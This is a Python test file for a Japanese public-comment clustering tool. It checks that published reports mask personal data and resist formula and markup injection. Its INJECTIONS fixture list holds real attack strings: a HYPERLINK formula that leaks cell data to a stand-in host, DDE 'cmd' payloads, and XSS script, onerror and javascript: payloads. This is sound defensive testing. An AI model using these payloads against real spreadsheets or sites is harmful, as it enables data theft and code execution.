"""Reliability: nothing private is published, and no comment can inject formulas or markup.

Personal data (phone numbers half- and full-width, e-mail, postal codes, addresses, 12-digit
individual numbers, names after 氏名：/名前：/Name: and known submitters) is drawn by
hypothesis and embedded in Japanese sentences; every published file (report.md/html/xlsx/csv
and the notebook's export) must be free of it, while opinions.csv keeps the original.
"""
from __future__ import annotations

import csv
import json
import re
import tempfile
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cluster.io import InputError, escape_cell
from cluster.mask import mask_personal_data
from cluster.pipeline import RunOptions, run
from cluster.review import export_report

from reliability_strategies import (one_blas_thread,  # noqa: F401 (autouse fixture)
                                    shared_encoder as _encoder, STATS, comment_text, personal_comment, prop_settings, sample_rows, sentence,
                                    write_rows_csv)

REPORTS = ("report.md", "report.html", "report.csv", "report.xlsx")




def xlsx_text(path: Path) -> str:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    out.append(str(cell.value))
    return "\n".join(out)


def published_text(folder: Path) -> dict[str, str]:
    out = {}
    for name in REPORTS:
        path = folder / name
        if name.endswith(".xlsx"):
            out[name] = xlsx_text(path)
        else:
            text = path.read_text(encoding="utf-8-sig")
            if name.endswith(".html"):
                import html

                text = html.unescape(re.sub(r"<[^>]+>", "\n", text))
            elif name.endswith(".md"):
                import html

                text = html.unescape(text.replace("<br>", "\n"))
            out[name] = text
    return out


def leak_forms(kind: str, value: str) -> set[str]:
    """The strings that would mean ``value`` leaked (as written or after NFKC)."""
    forms = {value, unicodedata.normalize("NFKC", value)}
    if kind == "postal":
        forms |= {f[1:].strip() for f in list(forms)}
    if kind == "name":
        forms |= {value.replace(" ", "").replace("\u3000", "")}
    if kind == "address":
        forms |= {unicodedata.normalize("NFKC", value)[-6:]}  # the block number part
    if kind in ("phone", "number"):
        forms |= {re.sub(r"\D", "", unicodedata.normalize("NFKC", value))}
    return {f for f in forms if len(f) >= 4}


def leaks(text: str, items: dict[str, str]) -> list[tuple[str, str]]:
    found = []
    flat = unicodedata.normalize("NFKC", text)
    digits_only = re.sub(r"\D", "", flat)
    for kind, value in items.items():
        for form in leak_forms(kind, value):
            hay = digits_only if form.isdigit() and kind in ("phone", "number") else flat
            if form in text or form in hay:
                found.append((kind, value))
                break
    return found


# ------------------------------------------------------------------ the masking function itself


@prop_settings(150)
@given(pc=personal_comment())
def test_mask_removes_drawn_personal_data(pc):
    text, items, submitter = pc
    masked = mask_personal_data(text, [submitter] if submitter else [])
    STATS["mask_texts"] += 1
    found = [(k, v) for k, v in items.items() if any(f in masked for f in leak_forms(k, v) if not f.isdigit())]
    STATS["mask_leaks"] += len(found)
    assert not found, f"{found} left in {masked!r}"
    # the opinion itself survives masking
    assert any(s in masked for s in text.split("\n")[0].split("。") if s.strip() and "：" not in s)


@prop_settings(200)
@given(text=st.lists(sentence, min_size=1, max_size=4).map("".join))
def test_mask_leaves_plain_opinions_alone(text):
    assert mask_personal_data(text) == text


# ------------------------------------------------------------------ whole runs: every published file


def check_run_masks(comments: list[tuple[str, dict[str, str], str]], no_mask: bool = False) -> None:
    rows = [(f"P-{i + 1:03d}", "電子メール", sub, text) for i, (text, _, sub) in enumerate(comments)]
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        path = write_rows_csv(tmp / "in.csv", rows)
        out = tmp / "run"
        run(path, out, RunOptions(mask=not no_mask), log=lambda m: None, encoder=_encoder())
        STATS["privacy_runs"] += 1
        info = json.loads((out / "run.json").read_text(encoding="utf-8"))
        assert info["masked"] is (not no_mask)
        published = published_text(out)
        if not no_mask:
            exported = export_report(out, tmp / "export")
            assert sorted(p.name for p in exported) == sorted(REPORTS)
            for p in exported:
                published["export/" + p.name] = xlsx_text(p) if p.suffix == ".xlsx" else p.read_text(encoding="utf-8-sig")
        all_items = [items for _, items, _ in comments]
        found = []
        for name, text in published.items():
            for items in all_items:
                found += [(name, k, v) for k, v in leaks(text, items)]
        STATS["published_files_checked"] += len(published)
        if not no_mask:
            STATS["personal_data_found_in_reports"] += len(found)
            assert not found, f"personal data published: {found[:5]}"
        else:
            assert found, "--no-mask should publish the text as written"
            with pytest.raises(InputError, match="no-mask"):
                export_report(out, tmp / "export")
            assert export_report(out, tmp / "export", allow_unmasked=True)
        # working files keep the original text for staff
        with open(out / "opinions.csv", encoding="utf-8-sig", newline="") as fh:
            joined = "\n".join(r["text"] for r in csv.DictReader(fh))
        for text, items, _ in comments:
            for value in items.values():
                assert value in joined or value.replace("\n", "") in joined, f"{value!r} missing from opinions.csv"


@prop_settings(8)
@given(comments=st.lists(personal_comment(), min_size=1, max_size=6))
def test_published_files_carry_no_personal_data(comments):
    check_run_masks(comments)


@prop_settings(3)
@given(comments=st.lists(personal_comment(), min_size=2, max_size=4))
def test_no_mask_publishes_as_written_and_is_recorded(comments):
    check_run_masks(comments, no_mask=True)


def test_no_mask_flag_on_the_command_line(tmp_path):
    from click.testing import CliRunner

    from cluster.cli import main

    path = write_rows_csv(tmp_path / "in.csv", [("1", "郵送", "", "公園を広くしてください。電話は090-2345-6789です。")])
    args = [] if getattr(_encoder(), "name", "") != "char-hash" else ["--model", "char-hash"]
    for flag, masked in (([], True), (["--no-mask"], False)):
        out = tmp_path / f"run-{masked}"
        res = CliRunner().invoke(main, ["run", str(path), "--out", str(out), *flag, *args])
        assert res.exit_code == 0, res.output
        assert json.loads((out / "run.json").read_text(encoding="utf-8"))["masked"] is masked
        assert ("090-2345-6789" in (out / "report.md").read_text(encoding="utf-8")) is (not masked)
        assert "090-2345-6789" in (out / "opinions.csv").read_text(encoding="utf-8-sig")


# ------------------------------------------------------------------ formula injection

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


@prop_settings(200)
@given(value=st.one_of(comment_text, st.sampled_from(DANGEROUS).flatmap(lambda c: comment_text.map(lambda t: c + t)),
                       st.from_regex(NUMBER, fullmatch=True)))
def test_escape_cell_property(value):
    out = escape_cell(value)
    if value and value[0] in DANGEROUS and not NUMBER.match(value):
        assert out == "'" + value
    else:
        assert out == value  # numbers and ordinary text untouched
    assert not (out and out[0] in DANGEROUS and not NUMBER.match(out))


INJECTIONS = [
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"詳細\") 公園の整備に賛成です。",
    "+cmd|' /C calc'!A0 図書館の開館時間を延ばしてください。",
    "-2+3+cmd|' /C calc'!A0 駐輪場を増やしてください。",
    "@SUM(1+1)*cmd|' /C calc'!A0 バスを増便してください。",
    "\t=1+1 説明会を土日に開いてください。",
    "\r=1+1 ごみの分別を分かりやすくしてほしい。",
    "<script>alert(1)</script>公園のトイレを洋式にしてください。",
    "| 列 | 表 |\n|---|---|\n| 偽の | 行 |\n樹木の伐採に反対です。",
    "[ここを押してください](javascript:alert(1)) 遊具を増やしてください。",
    "![画像](http://tracker.example/x.png) 防災倉庫の場所を公表してください。",
    '<img src=x onerror="alert(1)">市民プールの期間を延ばしてください。',
    "<a href=\"javascript:alert(1)\">リンク</a> 照明をLEDにしてください。",
    "</td></tr></table><h1>偽の見出し</h1> 計画の進み具合を公表してください。",
    "&lt;script&gt; は文字として表示されるべきです。",
]


@pytest.fixture(scope="module")
def injection_run(tmp_path_factory):
    d = tmp_path_factory.mktemp("inject")
    rows = [(f"-{i + 1}" if i % 3 == 0 else f"I-{i + 1:02d}", "=電子メール" if i == 1 else "郵送",
             "@山田太郎" if i == 2 else "", t) for i, t in enumerate(INJECTIONS)]
    rows.append(("+81", "郵送", "", "12345"))  # numbers stay numbers
    path = write_rows_csv(d / "in.csv", rows)
    out = d / "run"
    past = d / "past.csv"
    past.write_text("No.,ご意見の概要,市の考え方\n1,公園のトイレを洋式にしてほしい。,\"=1+1 <b>洋式化</b>を進めます。\"\n",
                    encoding="utf-8")
    run(path, out, RunOptions(answers=(str(past),), title="=タイトル<script>alert(1)</script>"),
        log=lambda m: None, encoder=_encoder())
    from cluster.review import record_label, run_members

    members, _ = run_members(out)
    first = sorted(members)[0]
    record_label(out, first, "<script>alert('label')</script>=1+1 | 見出し |")
    run(path, out, RunOptions(answers=(str(past),), title="=タイトル<script>alert(1)</script>"),
        log=lambda m: None, encoder=_encoder())
    return out


def test_csv_outputs_have_no_live_formulas(injection_run):
    for name in ("opinions.csv", "clusters.csv", "answers.csv", "report.csv"):
        with open(injection_run / name, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert rows, name
        for row in rows:
            for cell in row:
                assert not (cell and cell[0] in DANGEROUS and not NUMBER.match(cell)), f"{name}: {cell!r}"
    with open(injection_run / "opinions.csv", encoding="utf-8-sig", newline="") as fh:
        ops = list(csv.DictReader(fh))
    assert {"-1", "-4", "+81"} <= {r["comment_id"] for r in ops}  # numbers are not escaped
    assert any(r["text"] == "12345" for r in ops)
    assert any(r["text"].startswith("'=HYPERLINK") for r in ops)


def test_xlsx_report_has_no_formulas(injection_run):
    from openpyxl import load_workbook

    ws = load_workbook(injection_run / "report.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells
    for c in cells:
        assert c.data_type != "f", f"formula in {c.coordinate}: {c.value!r}"
        if isinstance(c.value, str) and c.value[0] in DANGEROUS and not NUMBER.match(c.value):
            # formula-like text: a text cell with Excel's quotePrefix style (hidden apostrophe)
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)
    assert any(isinstance(c.value, str) and c.value.startswith("=") and c.quotePrefix for c in cells)


ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "ul", "li", "table", "caption", "tr", "th",
                "td", "div", "p", "br"}


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def _tags(html_text: str) -> list[tuple[str, list]]:
    parser = TagCollector()
    parser.feed(html_text)
    return parser.tags


def _assert_no_injected_markup(html_text: str, where: str) -> None:
    for tag, attrs in _tags(html_text):
        if tag == "span":  # the report's own mark of an opinion written in English (report._english)
            assert attrs == [("lang", "en")], f"{where}: <span {attrs}>"
            continue
        assert tag in ALLOWED_TAGS | {"thead", "tbody", "em", "strong", "code", "h2", "h3", "hr", "ol"}, \
            f"{where}: injected <{tag}>"
        for name, value in attrs:
            assert not name.startswith("on"), f"{where}: event handler {name}"
            assert name not in ("href", "src"), f"{where}: {name}={value!r}"
    assert "javascript:" not in "".join(str(v) for _, attrs in _tags(html_text) for _, v in attrs)


def test_html_report_cannot_be_injected(injection_run):
    text = (injection_run / "report.html").read_text(encoding="utf-8")
    _assert_no_injected_markup(text, "report.html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text  # shown as text
    assert "&amp;lt;script&amp;gt;" in text  # an entity in a comment stays as written
    assert text.count("<table") == 1 and text.count("</table>") == 1  # the channels are a count line


def test_markdown_report_cannot_be_injected(injection_run):
    import markdown_it

    text = (injection_run / "report.md").read_text(encoding="utf-8")
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("| No. |"))
    rows = [line for line in lines[start:] if line.startswith("|")]
    assert len(rows) >= 3
    for line in rows:  # every table row keeps its four columns
        assert line.count("|") - line.count("\\|") == 5, line
    rendered = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    _assert_no_injected_markup(rendered, "report.md rendered")
    import mistune

    _assert_no_injected_markup(mistune.html(text), "report.md (mistune)")


@prop_settings(60)
@given(texts=st.lists(st.one_of(comment_text, st.sampled_from(INJECTIONS)), min_size=1, max_size=5))
def test_report_model_escapes_any_text(texts):
    """The report writers on arbitrary text: no tag, link or extra column from a comment."""
    import markdown_it

    from cluster.report import ReportModel, ReportRow, to_html, to_markdown

    rows = [ReportRow(no=i + 1, section=t[:10], summary=t, count=1, answer=t[::-1],
                      answer_status=("confirmed", "candidate", "none")[i % 3], label=t[:8])
            for i, t in enumerate(texts)]
    model = ReportModel(title=texts[0][:20] or "題", n_submitters=1, n_submissions=1,
                        by_channel=[(texts[0][:5] or "郵送", 1)], n_opinions=len(rows), n_excluded=0, rows=rows)
    STATS["markup_models"] += 1
    _assert_no_injected_markup(to_html(model), "html")
    md = to_markdown(model)
    _assert_no_injected_markup(markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(md), "md")
    bars = 6 if model.has_section_column else 5  # a 該当箇所 column when a row has a section
    table = [line for line in md.split("\n") if line.startswith("| ") and line.count("|") >= bars]
    assert len(table) == len(rows) + 1  # header + one line per row: no line break injected
    for line in table:
        assert line.count("|") == bars, line


# ------------------------------------------------------------------ control characters typed by staff


def test_control_characters_in_staff_text_never_break_the_report(tmp_path):
    """A label or answer pasted with an escape sequence or a NUL (or a hand-edited decisions
    file) must not make every later run fail (Excel refuses control characters)."""
    from openpyxl import load_workbook

    from cluster.review import record_label, run_members
    from cluster.decisions import append_decision

    path = write_rows_csv(tmp_path / "in.csv", sample_rows(12, seed=5))
    out = tmp_path / "run"
    run(path, out, RunOptions(), log=lambda m: None, encoder=_encoder())
    members, _ = run_members(out)
    first, second = sorted(members)[:2]
    d = record_label(out, first, "公園\x1b[31m整備\x07")
    assert d.value["label"] == "公園[31m整備"  # stripped when recorded
    append_decision(out, "answer", members[second], {"text": "検討します\x00。\x0b以上\x1f", "cluster": second})
    run(path, out, RunOptions(title="題名\x08"), log=lambda m: None, encoder=_encoder())
    for name in ("report.md", "report.html", "report.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text), name
    cells = [c.value for row in load_workbook(out / "report.xlsx").active.iter_rows() for c in row]
    assert any(isinstance(v, str) and "検討します。以上" in v for v in cells)


def test_unexpected_error_is_still_one_line(tmp_path, monkeypatch):
    from click.testing import CliRunner

    import cluster.pipeline as pipeline
    from cluster.cli import main

    def boom(*a, **k):
        raise RuntimeError("first line\nsecond line\n  third")

    monkeypatch.setattr(pipeline, "run", boom)
    path = write_rows_csv(tmp_path / "in.csv", [("1", "郵送", "", "公園を広くしてください。")])
    res = CliRunner().invoke(main, ["run", str(path), "--out", str(tmp_path / "o")])
    assert res.exit_code == 2
    assert res.stderr.count("\n") == 1 and res.stderr.startswith("error: unexpected RuntimeError: first line")


def test_export_refuses_an_incomplete_run_and_copies_atomically(tmp_path, monkeypatch):
    import shutil

    path = write_rows_csv(tmp_path / "in.csv", sample_rows(8, seed=6))
    out = tmp_path / "run"
    run(path, out, RunOptions(), log=lambda m: None, encoder=_encoder())
    dest = tmp_path / "publish"
    export_report(out, dest)
    before = {p.name: p.read_bytes() for p in dest.iterdir()}
    # a copy that fails half-way leaves the earlier export as it was
    real = shutil.copyfile

    def half_copy(src, dst, *a, **k):
        Path(dst).write_bytes(Path(src).read_bytes()[:10])
        raise OSError(28, "No space left on device", str(dst))

    monkeypatch.setattr(shutil, "copyfile", half_copy)
    with pytest.raises(OSError):
        export_report(out, dest)
    monkeypatch.setattr(shutil, "copyfile", real)
    assert {p.name: p.read_bytes() for p in dest.iterdir()} == before
    # run.json that does not say completed: nothing to export
    info = json.loads((out / "run.json").read_text(encoding="utf-8"))
    info["completed"] = False
    (out / "run.json").write_text(json.dumps(info), encoding="utf-8")
    with pytest.raises(InputError, match="did not complete"):
        export_report(out, tmp_path / "other")
    (out / "run.json").unlink()
    with pytest.raises(InputError):
        export_report(out, tmp_path / "other")
